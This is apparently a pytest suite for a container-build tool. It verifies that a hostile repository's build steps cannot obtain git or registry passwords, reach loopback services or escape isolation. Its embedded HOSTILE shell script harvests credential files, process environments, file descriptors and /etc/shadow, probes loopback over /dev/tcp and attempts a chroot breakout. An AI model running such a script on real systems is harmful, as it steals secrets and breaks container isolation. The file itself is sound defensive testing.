"""The hostile repository, and where credentials go: to their own server, and nowhere else.

The container that runs the repository's steps holds no credential, so whatever a step breaks out of, it finds none.
"""

import asyncio
import base64
import contextlib
import http.server
import secrets
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from podbuild import (
    AccessDenied,
    BuildFailed,
    GitCredentials,
    LocalHost,
    LocalSettings,
    Plan,
    RegistryCredentials,
    find_image,
    parse_options,
    parse_repository,
    plan_build,
    submit,
)
from podbuild.hosts.local import Engine, limits_here
from podbuild.manifest import Isolation
from tests.engine import FROM, REGISTRY, Repo, TestRegistry, call, commit_files, free_port, git
from tests.fakes.git_server import GitServer
from tests.fakes.real_registry import HTPASSWD, PASSWORD, USERNAME

pytestmark = pytest.mark.engine

#: What a step can try to read the credentials. Everything that it finds goes into /loot, and into the log.
HOSTILE = r"""
look() {
    echo "== the environment"; env
    echo "== secrets where they would lie"
    for root in "" /container; do
        test -e $root/opt/podbuild/build.py && echo IN-THE-CONTAINER-$((6*7))
        cat $root/podbuild/*/* $root/run/secrets/* $root/tmp/auth.json $root/dev/termination-log
        cat $root/root/.docker/config.json $root/root/.config/containers/auth.json
        ls -laR $root/podbuild $root/take $root/work $root/run/podbuild-secrets
        cat $root/work/* $root/work/*/.git/config $root/take/*/*
        tr '\0' '\n' < $root/proc/1/environ
    done
    find / -xdev \( -name 'git.json' -o -name 'registry.json' -o -name 'auth.json' \) -exec cat {} +
    echo "== other processes"
    for p in /proc/[0-9]*; do
        tr '\0' '\n' < $p/environ; tr '\0' ' ' < $p/cmdline
        cat $p/root/podbuild/secret/* $p/cwd/secret/*
        timeout 2 cat $p/fd/[3-9]* | head -c 20000
        grep -a -o 'canary-[0-9a-f]*' $p/mountinfo
    done
    echo "== the machine"
    echo "|/x" > /proc/sys/kernel/core_pattern && echo WROTE-CORE-PATTERN-$((6*7))
    cat /proc/1/root/etc/shadow /proc/kcore | head -c 1000
    mkdir -p /m && mount -t tmpfs none /m && ls /m
    mknod /disk b 254 0 && head -c 1000 /disk
}
{
    timeout 60 bash -c "$(declare -f look); look"
    echo "== loopback"
    for address in 127.0.0.1 localhost $(sed -n 's/\t.*//p' /etc/hosts) $GATEWAY; do
        timeout 3 bash -c "exec 3<>/dev/tcp/$address/$1 && printf 'GET /from-a-step HTTP/1.0\r\n\r\n' >&3 && cat <&3"
    done
    echo "== out of the root folder"
    timeout 60 perl -e 'opendir(D, "/"); mkdir "/x"; chroot("/x") or die "no chroot: $!"; chdir(D) or die;
        chdir("..") for 1..64; chroot("."); exec @ARGV' -- /bin/bash -c "
        $(declare -f look); look"
} < /dev/null 2>&1 | tee /loot
echo "the step is over"
"""
LOOK = f"FROM {FROM}\nCOPY hostile.sh /\nARG PORT\nARG GATEWAY\nRUN bash /hostile.sh $PORT\n"


class ChrootHost(LocalHost):
    """A host that can give the repository's steps no more than chroot isolation."""

    @property
    def isolation(self) -> Isolation:
        return "chroot"


class Canary(http.server.BaseHTTPRequestHandler):
    """A service of this machine that no step may reach."""

    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
        """Write nothing."""


@pytest.fixture
def canary() -> Iterator[tuple[int, list[str]]]:
    """A web server on loopback: its port, and the list of what was asked of it."""
    hits: list[str] = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Handler", (Canary,), {"hits": hits}))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def private_registry(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A registry on loopback that wants `USERNAME` and `PASSWORD`; gives its name."""
    folder = tmp_path_factory.mktemp("login")
    (folder / "htpasswd").write_text(HTPASSWD)
    folder.chmod(0o755)
    name, host = f"podbuild-test-private-{secrets.token_hex(4)}", f"127.0.0.1:{free_port()}"
    options = ["--detach", f"--name={name}", f"--publish={host}:5000", f"--volume={folder}:/login:ro", *limits_here()]
    options += ["--env=REGISTRY_AUTH=htpasswd", "--env=REGISTRY_AUTH_HTPASSWD_REALM=test"]
    options += ["--env=REGISTRY_AUTH_HTPASSWD_PATH=/login/htpasswd"]
    call(engine, "run", *options, REGISTRY)
    yield host
    call(engine, "rm", "--force", "--volumes", name)


@dataclass(frozen=True)
class Private:
    """A git server that wants a password, and settings that hold it."""

    server: GitServer
    settings: LocalSettings
    password: str

    def plan(
        self,
        name: str,
        commit: str,
        settings: LocalSettings | None = None,
        **options: Any,
    ) -> Plan:
        """Return a plan for one of its repositories."""
        return plan_build(
            parse_repository(f"{self.server.url}/{name}"),
            commit,
            None,
            parse_options(options),
            settings or self.settings,
        )


@pytest.fixture
async def private(local_settings: LocalSettings, private_registry: str, tmp_path: Path) -> AsyncIterator[Private]:
    """A private git server and a private registry, with credentials for both in the settings."""
    password = f"canary-{secrets.token_hex(8)}"
    folder = tmp_path / "repositories"
    folder.mkdir()
    with GitServer(folder, username="robot", password=password) as server:
        settings = replace(
            local_settings,
            registry=f"{private_registry}/t-{secrets.token_hex(4)}",
            plain_http_registries=(private_registry, *local_settings.plain_http_registries),
            git_credentials=(GitCredentials(host=server.host, username="robot", password=password),),
            registry_credentials=(
                RegistryCredentials(host=private_registry, username=USERNAME, password=PASSWORD),
                RegistryCredentials(host="other.invalid", username="other", password=f"{password}-other"),
            ),
        )
        yield Private(server, settings, password)


def spellings(*passwords: str) -> list[bytes]:
    """Return what would give the passwords away."""
    found = [p.encode() for p in passwords]
    for user in ("robot", USERNAME):
        found += [base64.b64encode(f"{user}:{p}".encode()) for p in passwords]
    return found


class ProcessWatch:
    """Looks for a text in the arguments and the environment of every process of this machine, again and again."""

    def __init__(self, text: bytes) -> None:
        self._text = text
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._look)
        self.found: set[str] = set()
        self.rounds = 0

    def _look(self) -> None:
        while not self._over.wait(0.02):
            for process in Path("/proc").glob("[0-9]*"):
                for name in ("cmdline", "environ"):
                    with contextlib.suppress(OSError):
                        if self._text in (process / name).read_bytes():
                            self.found.add(f"{name} of {(process / 'comm').read_text()}")
            self.rounds += 1

    def __enter__(self) -> "ProcessWatch":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        self._thread.join()


async def raw_log(host: LocalHost, plan: Plan) -> bytes:
    """Return both containers' logs as they were written, before anything is redacted."""
    pod = await host.read(plan.name)
    assert pod is not None
    return b"".join([chunk for which in ("courier", "build") async for chunk in host.log(pod, which)])


def gateway(engine: Engine, network: str) -> str:
    """Return the address under which the machine is on a network of the engine."""
    said = call(engine, "network", "inspect", network)
    return said.partition('"gateway": "')[2].partition('"')[0] or said.partition('"Gateway": "')[2].partition('"')[0]


@pytest.mark.parametrize(
    ("kind", "extra_args"),
    [
        pytest.param(LocalHost, [], id="the engine's own isolation"),
        pytest.param(ChrootHost, [], id="chroot isolation"),
        pytest.param(LocalHost, ["--volume=/:/container"], id="the whole container in its hands"),
    ],
)
async def test_a_hostile_repository_gets_no_credential(
    private: Private,
    registry: TestRegistry,
    make_repo: Callable[..., Repo],
    canary: tuple[int, list[str]],
    kind: type[LocalHost],
    extra_args: list[str],
    tmp_path: Path,
) -> None:
    """No step finds a password or reaches this machine's loopback: nothing is in the image, the logs, the engine's
    account of the containers, or any process's arguments and environment. A step that has got hold of the whole
    container finds nothing there either."""
    port, hits = canary
    repo = make_repo({"Dockerfile": LOOK, "hostile.sh": HOSTILE}, name="hostile")
    async with kind(private.settings) as host:
        build_args = {"PORT": str(port), "GATEWAY": gateway(host.engine, registry.network)}
        plan = private.plan("hostile", repo.commit, build_args=build_args, extra_args=extra_args)
        isolation = host.isolation
        with ProcessWatch(private.password.encode()) as watch:
            build = await submit(host, plan)
            (secret,) = Path(private.settings.state_folder).glob("secrets/*/git.json")
            assert private.password in secret.read_text()
            inspected = call(host.engine, "container", "inspect", plan.name, f"{plan.name}.build")
            result = await build.result()
        log = await raw_log(host, plan)
    loot = await asyncio.to_thread(copy_out, registry, result.reference, "/loot", tmp_path)

    assert (b"IN-THE-CONTAINER-42" in loot) == bool(extra_args)
    assert (b"python3 /opt/podbuild/build.py" in loot) == (isolation == "chroot"), "who sees other processes"
    assert b"the step is over" in log
    assert b"WROTE-CORE-PATTERN-42" not in loot
    for text in spellings(private.password, PASSWORD):
        assert text not in loot
        assert text not in log
        assert text not in inspected.encode()
    assert hits == []
    assert watch.rounds > 3
    assert watch.found == set()
    assert not list(Path(private.settings.state_folder).glob("secrets/*"))
    used = [r.headers.get("Authorization") for r in private.server.requests]
    assert any(used), "the password was used, by courier"


def copy_out(registry: TestRegistry, reference: str, path: str, folder: Path) -> bytes:
    """Pull an image that needs the login, and return one of its files."""
    login = folder / "auth.json"
    token = base64.b64encode(f"{USERNAME}:{PASSWORD}".encode()).decode()
    login.write_text(f'{{"auths": {{"{reference.partition("/")[0]}": {{"auth": "{token}"}}}}}}')
    call(registry.engine, "pull", "--quiet", f"--authfile={login}", *registry.insecure(), reference)
    name = f"podbuild-test-copy-{secrets.token_hex(4)}"
    try:
        call(registry.engine, "create", f"--name={name}", *limits_here(), reference, "true")
        call(registry.engine, "cp", f"{name}:{path}", str(folder / "copied"))
    finally:
        call(registry.engine, "rm", "--force", name, check=False)
        call(registry.engine, "rmi", "--force", reference)
    return (folder / "copied").read_bytes()


async def test_a_layout_behind_a_link_is_not_pushed(
    local_settings: LocalSettings, make_repo: Callable[..., Repo]
) -> None:
    """A step that got hold of the shared volume and put a link in the image's place ends the build before the push."""
    repo = make_repo({"Dockerfile": f"FROM {FROM}\nRUN mkdir /shared/mine && ln -s mine /shared/image\n"})
    options = parse_options({"extra_args": ["--volume=/work:/shared"]})
    plan = plan_build(parse_repository(repo.url), repo.commit, None, options, local_settings)

    async with LocalHost(local_settings) as host:
        build = await submit(host, plan)
        with pytest.raises(BuildFailed, match="behind a link") as raised:
            await build.result()

    assert raised.value.phase == "push"
    assert await find_image(plan.image, local_settings) is None


# --- credentials ----------------------------------------------------------------------------------------------


async def test_a_wrong_git_password_is_access_denied(private: Private, make_repo: Callable[..., Repo]) -> None:
    """The error says that it is git's server, and holds no password; nothing runs on."""
    repo = make_repo({"Dockerfile": f"FROM {FROM}\n"}, name="app")
    wrong = f"canary-{secrets.token_hex(8)}"
    settings = replace(
        private.settings, git_credentials=(replace(private.settings.git_credentials[0], password=wrong),)
    )

    async with LocalHost(settings) as host:
        plan = private.plan("app", repo.commit, settings=settings)
        build = await submit(host, plan)
        with pytest.raises(AccessDenied, match="git server") as raised:
            await build.result()
        log = await raw_log(host, plan)
        pod = await host.read(plan.name)

    assert pod is not None
    assert all("terminated" in s["state"] for s in pod["status"]["containerStatuses"])
    assert raised.value.remedy
    for text in spellings(wrong):
        assert text not in log
        assert text not in str(raised.value).encode()


async def test_a_wrong_registry_password_is_access_denied(private: Private, make_repo: Callable[..., Repo]) -> None:
    """The build was for nothing, but the error says which registry, and what to check."""
    repo = make_repo({"Dockerfile": f"FROM {FROM}\n"}, name="app")
    wrong = f"canary-{secrets.token_hex(8)}"
    logins = tuple(replace(login, password=wrong) for login in private.settings.registry_credentials)
    settings = replace(private.settings, registry_credentials=logins)

    async with LocalHost(settings) as host:
        plan = private.plan("app", repo.commit, settings=settings)
        build = await submit(host, plan)
        with pytest.raises(AccessDenied, match=plan.image.registry) as raised:
            await build.result()
        log = await raw_log(host, plan)

    assert "registry-credentials" in raised.value.remedy
    for text in spellings(wrong):
        assert text not in log
        assert text not in str(raised.value).encode()


async def test_a_submodule_on_another_server_gets_no_password(
    private: Private, make_repo: Callable[..., Repo], tmp_path: Path
) -> None:
    """It may ask for one: it is told nothing, and the build ends with an error that names the submodules (S26)."""
    inner = make_repo({"part.txt": "x\n"}, name="inner")
    outer = make_repo({"Dockerfile": f"FROM {FROM}\nCOPY parts/part.txt /\n"}, name="outer")
    with GitServer(tmp_path / "repositories", username="robot", password="something else") as other:
        git(outer.path, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(inner.path), "parts")
        git(outer.path, "config", "--file", ".gitmodules", "submodule.parts.url", f"{other.url}/inner")
        commit = commit_files(outer.path, {})

        async with LocalHost(private.settings) as host:
            build = await submit(host, private.plan("outer", commit))
            with pytest.raises(AccessDenied, match="submodules"):
                await build.result()

    assert other.requests, "the other server was asked"
    assert [r.headers["Authorization"] for r in other.requests if "Authorization" in r.headers] == []


async def test_a_submodule_beside_its_repository_gets_the_password(
    private: Private, make_repo: Callable[..., Repo]
) -> None:
    """The same server, a path that the credentials cover: built."""
    inner = make_repo({"part.txt": "x\n"}, name="inner")
    outer = make_repo({"Dockerfile": f"FROM {FROM}\nCOPY parts/part.txt /\n"}, name="outer")
    git(outer.path, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(inner.path), "parts")
    git(outer.path, "config", "--file", ".gitmodules", "submodule.parts.url", "../inner")
    commit = commit_files(outer.path, {})

    async with LocalHost(private.settings) as host:
        result = await (await submit(host, private.plan("outer", commit))).result()

    assert result.outcome == "built"
